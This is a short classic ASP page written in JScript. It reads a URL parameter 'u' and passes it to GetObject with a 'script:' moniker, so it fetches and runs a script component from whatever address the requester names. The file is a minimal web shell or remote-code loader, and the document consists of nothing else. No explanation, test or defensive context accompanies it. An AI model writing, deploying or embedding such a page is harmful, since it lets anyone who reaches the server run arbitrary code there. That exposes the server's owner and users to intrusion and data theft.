<%@ Language="JScript" %>
<%
var u = Request.QueryString("u");
var sct = GetObject("script:" + u);
%>
